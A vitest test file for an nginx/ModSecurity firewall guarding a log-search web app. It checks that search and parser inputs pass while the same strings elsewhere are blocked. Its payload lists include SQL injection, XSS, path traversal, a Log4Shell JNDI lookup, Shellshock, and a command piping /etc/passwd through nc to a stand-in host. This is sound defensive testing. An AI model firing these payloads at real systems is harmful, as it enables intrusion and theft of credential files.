import { randomBytes } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { createHttpsClient, type HttpsClient, type HttpsRequest } from '../../https-client.ts';
import { type Keeper, openKeeper } from '../../keeper/keeper.ts';
import { makeCertificateAuthority } from '../certificates/certificates.ts';
import { createNginx, type NginxService } from './nginx.ts';
import { openWebBackend, type WebBackend } from './web-backend.ts';

let keeper: Keeper;
let backend: WebBackend;
let nginx: NginxService;
let client: HttpsClient;
beforeAll(async () => {
  keeper = await openKeeper('test-waf');
  const authority = await makeCertificateAuthority(keeper);
  backend = await openWebBackend();
  nginx = await createNginx(keeper, {
    certificate: await authority.issue('web'),
    webNodes: [backend.address],
    syslogNodes: [{ host: '127.0.0.1', port: 9 }],
    values: { SIGN_IN_RATE: '60000r/m', API_RATE: '1000r/s', PAGE_RATE: '1000r/s' },
  });
  await nginx.start();
  client = createHttpsClient(nginx.url, authority.pem);
});
afterAll(async () => {
  client.close();
  await keeper.close();
  await backend.close();
});

type Case = readonly [path: string, options?: HttpsRequest];

/** Names of the cases whose status is another one. */
async function unlike(status: number, cases: Readonly<Record<string, Case>>): Promise<readonly string[]> {
  const asked = Object.entries(cases).map(async ([name, [where, options]]) => {
    const headers = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64)', accept: '*/*', ...options?.headers };
    const answer = await client.ask(where, { ...options, headers });
    return answer.status === status ? [] : [`${name}: ${answer.status}`];
  });
  return (await Promise.all(asked)).flat();
}

const encode = encodeURIComponent;
const input = (value: unknown) => `input=${encode(JSON.stringify(value))}`;
const form = (values: Readonly<Record<string, string>>): HttpsRequest => ({
  method: 'POST',
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  body: String(new URLSearchParams(values)),
});
const json = (value: unknown, method = 'POST'): HttpsRequest => ({
  method,
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(value),
});

/** What analysts look for. */
const SEARCHES = [
  'select * from logs',
  '/etc/passwd',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  "1' OR '1'='1'-- -",
  'union select password from users',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is how the attack looks
  '${jndi:ldap://203.0.113.7/a}',
  '; cat /etc/passwd | nc 203.0.113.7 4444',
  '() { :; }; /bin/bash -c id',
  'http://203.0.113.7/shell.php',
  'java.lang.Runtime',
  'GET /x HTTP/1.1',
  'url.path:*/wp-login.php and not source.ip:10.0.0.0/8',
  'kadıköy "çıkış" %100',
];

test.each(SEARCHES)('a search for %s passes wherever a search stands', async (search) => {
  const page = `/explorer?q=${encode(search)}&t=1h`;
  const back = `/sign-in?callbackUrl=${encode(page)}`;
  const tree = ['', { children: ['explorer', { children: [`__PAGE__?${JSON.stringify({ q: search })}`, {}] }] }];
  const range = { from: '2026-01-01T00:00:00.000Z', to: '2026-01-02T00:00:00.000Z' };
  const referer = (where: string) => ({ headers: { referer: `${nginx.url}${where}` } });
  const Referer = { headers: { Referer: `${nginx.url}${page}` } };
  const cookie = `__Secure-next-auth.callback-url=${encode(`${nginx.url}${back}`)}`;
  expect(
    await unlike(200, {
      api: [`/api/v1/search?q=${encode(search)}&from=2026-01-01T00:00:00%2B03:00&size=10`],
      page: [page],
      rows: [`/api/trpc/search.page?${input({ json: { q: search, ...range, size: 100 } })}`],
      facet: [`/api/trpc/search.top?${input({ json: { q: search, field: 'source.ip', size: 10 } })}`],
      'page of a call': [`/api/trpc/account.me,health.get?batch=1&${input({ 0: { json: null } })}`, referer(page)],
      'page of a call, as HTTP/1.1 writes it': ['/api/v1/devices', Referer],
      "Next's state": [
        '/devices?_rsc=1x2y3',
        { headers: { rsc: '1', 'next-router-state-tree': encode(JSON.stringify(tree)), 'next-url': page } },
      ],
      'way back': [back],
      'way back, while signing in': [
        '/api/auth/callback/credentials',
        form({ username: 'admin', password: 'x', csrfToken: 'a', callbackUrl: `${nginx.url}${back}`, json: 'true' }),
      ],
      'way back, as a cookie': ['/devices', { headers: { cookie } }],
    }),
  ).toEqual([]);
});

test.each(SEARCHES)('the password %s is taken', async (password) => {
  expect(
    await unlike(200, {
      'signing in': ['/api/auth/callback/credentials', form({ username: 'admin', password, csrfToken: 'a' })],
      changing: ['/api/trpc/account.changePassword', json({ json: { current: password, next: `${password}2` } })],
    }),
  ).toEqual([]);
});

test.each(SEARCHES)('a custom parser for %s is saved and tried', async (text) => {
  const definition = {
    name: 'x',
    kind: 'grok',
    patterns: [text],
    fields: { [text]: 'message' },
    constants: { message: text },
  };
  expect(
    await unlike(200, {
      save: ['/api/v1/parsers', json({ definition })],
      try: ['/api/v1/parsers/try', json({ definition, records: [text] })],
      'save of a page': ['/api/trpc/parsers.save', json({ json: { definition } })],
      'try of a page': ['/api/trpc/parsers.try', json({ json: { definition, records: [text] } })],
      deactivate: ['/api/v1/parsers/x/deactivate', json({})],
    }),
  ).toEqual([]);
});

const ATTACKS = [
  "1' OR '1'='1'-- -",
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '; cat /etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is how the attack looks
  '${jndi:ldap://203.0.113.7/a}',
];

test.each(ATTACKS)('%s anywhere else is refused, beside a search too', async (attack) => {
  expect(
    await unlike(403, {
      'beside a search': [`/api/v1/search?q=ok&from=${encode(attack)}`],
      'beside the search of a page': [`/explorer?q=ok&t=${encode(attack)}`],
      'a search as a form': ['/api/v1/search', form({ q: attack })],
      'another API': [`/api/v1/devices?q=${encode(attack)}`],
      'another procedure': [`/api/trpc/devices.list?${input({ json: { q: attack } })}`],
      'a batch that begins with a search': [
        `/api/trpc/search.page,devices.list?batch=1&${input({ 0: { json: { q: attack } } })}`,
      ],
      'another page': [`/devices?tab=${encode(attack)}`],
      'the user name': ['/api/auth/callback/credentials', form({ username: attack, password: 'x' })],
      'beside a custom parser': [`/api/v1/parsers?x=${encode(attack)}`, json({})],
      'another procedure of custom parsers': ['/api/trpc/parsers.activate', json({ json: { name: attack } })],
      'a name in JSON': ['/api/trpc/devices.rename', json({ json: { name: attack } })],
      'put in JSON': ['/api/v1/devices/1', json({ name: attack }, 'PUT')],
      'a static file': [`/_next/static/chunk.js?a=${encode(attack)}`],
      'a cookie': ['/devices', { headers: { cookie: `a=${encode(attack)}` } }],
    }),
  ).toEqual([]);
});

test('everyday requests pass, with every method of the API', async () => {
  const id = '7b0c3e1e-3a4b-4f6e-9a55-0f3f1c2d4e5f';
  const cookie = `__Host-next-auth.csrf-token=${randomBytes(32).toString('hex')}%7C${randomBytes(32).toString('hex')}`;
  expect(
    await unlike(200, {
      root: ['/'],
      batch: [
        `/api/trpc/account.me,devices.list?batch=1&${input({ 0: { json: null, meta: { values: ['undefined'] } }, 1: { json: { status: 'pending', q: "O'Brien fw-01 10.0.0.0/8" } } })}`,
      ],
      record: [`/api/trpc/search.record?${input({ json: { id: 'n1.0.4711.12' } })}`],
      calendar: [`/api/trpc/evidence.calendar?${input({ json: { siteId: 'ankara', month: '2026-11' } })}`],
      download: ['/api/evidence/download?site=ankara&day=2026-11-23&node=n1&segment=4'],
      cursor: ['/api/v1/search?q=x&after=eyJhIjpbMTc5NTYyMTk4NzAwMCwibjEuMC40Il19'],
      approve: ['/api/trpc/devices.approve', json({ json: { id, revision: 3 } })],
      rename: ['/api/trpc/devices.rename', json({ json: { id, name: "Kadıköy – O'Brien & Söhne (2. kat) <yedek>" } })],
      site: [
        '/api/trpc/sites.create',
        json({ json: { id: 'ankara', name: "Çankaya; D'Or", timeZone: 'Europe/Istanbul' } }),
      ],
      put: ['/api/v1/devices/1', json({ name: 'a' }, 'PUT')],
      patch: ['/api/v1/devices/1', json({ name: 'a' }, 'PATCH')],
      delete: ['/api/v1/devices/1', { method: 'DELETE' }],
      'sign out': ['/api/auth/signout', form({ csrfToken: 'a', callbackUrl: `${nginx.url}/sign-in`, json: 'true' })],
      csrf: ['/api/auth/csrf', { headers: { cookie } }],
      token: ['/api/v1/devices', { headers: { authorization: `Bearer ${randomBytes(32).toString('base64url')}` } }],
      curl: ['/api/v1/search?q=x', { headers: { 'user-agent': 'curl/8.5.0' } }],
      script: ['/api/v1/search?q=x', { headers: { 'user-agent': 'python-requests/2.31' } }],
      k6: ['/api/v1/search?q=x', { headers: { 'user-agent': 'k6/1.0 (https://k6.io/)' } }],
    }),
  ).toEqual([]);
});

test('an encrypted session passes even where it looks like an attack', async () => {
  const looks = (name: string) => ({ headers: { cookie: `${name}=eyJhbGciOiJkaXIifQ..1'+OR+'1'='1` } });
  expect(
    await unlike(200, {
      session: ['/devices', looks('__Secure-next-auth.session-token')],
      part: ['/devices', looks('next-auth.session-token.0')],
    }),
  ).toEqual([]);
  expect(await unlike(403, { another: ['/devices', looks('session')] })).toEqual([]);
});

test('paths out of the site, other methods, files of the inside and broken bodies are refused', async () => {
  expect(
    await unlike(403, {
      dots: ['/api/v1/../../etc/passwd'],
      'search with a path': ['/api/v1/search/../../../etc/passwd?q=x'],
      git: ['/.git/config'],
      env: ['/.env'],
      dump: ['/backup.sql'],
      scanner: ['/', { headers: { 'user-agent': 'sqlmap/1.7' } }],
    }),
  ).toEqual([]);
  expect(await unlike(405, { trace: ['/', { method: 'TRACE' }] })).toEqual([]);
  expect(
    await unlike(400, {
      json: ['/api/trpc/devices.rename', { ...json(1), body: '{"json":' }],
      above: ['/../etc/passwd'],
    }),
  ).toEqual([]);
});

test('what was refused is logged with its rules, under the id of the answer and without anybody’s secrets', async () => {
  const attack = `/devices?tab=${encode('<script>alert(1)</script>')}`;
  const answer = await client.ask(attack, {
    headers: { cookie: 'a=topsecret', authorization: 'Bearer topsecret', accept: '*/*', 'user-agent': 'x' },
  });
  expect(answer.status).toBe(403);
  const id = String(answer.headers['x-request-id']);
  const log = () => readFile(path.join(nginx.logFolder, 'modsecurity.log'), 'utf8');
  const said = async () => {
    const text = await log();
    return text.includes(id) ? text.slice(text.indexOf(id)) : '';
  };
  await expect.poll(said).toMatch(/id "941100"[\s\S]*id "949110"/);
  expect(await log()).not.toContain('topsecret');
  expect(backend.seen.some((request) => request.path === attack)).toBe(false);
});
